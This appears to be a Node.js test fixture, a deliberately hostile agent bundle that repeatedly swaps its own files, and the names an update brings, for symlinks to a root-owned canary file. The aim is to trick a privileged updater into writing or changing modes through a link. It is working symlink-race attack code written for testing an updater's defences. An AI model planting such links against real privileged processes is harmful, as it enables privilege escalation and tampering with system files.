// A hostile agent bundle (tests only): every millisecond it replaces each entry of its own code directory, and the
// names an update brings (index.js, VERSION), by a link to a root-owned file, hoping that root writes, copies or
// changes modes through one while it replaces the agent's code, or that the new code ends up a link it made.
"use strict";
const fs = require("fs");

const target = "/etc/imagekit-canary";
const staging = `${__dirname}/.planting`;
console.log(`link-planting agent ${process.env.AGENT_ID} started`);

function plant() {
  for (const name of new Set([...fs.readdirSync(__dirname), "index.js", "VERSION"])) {
    if (name === ".planting") continue;
    try {
      fs.rmSync(staging, { force: true });
      fs.symlinkSync(target, staging);
      fs.renameSync(staging, `${__dirname}/${name}`); // a file or a link replaced by a link, in one step
    } catch (e) { /* a directory: left as it is */ }
  }
  setTimeout(plant, 1);
}
plant();
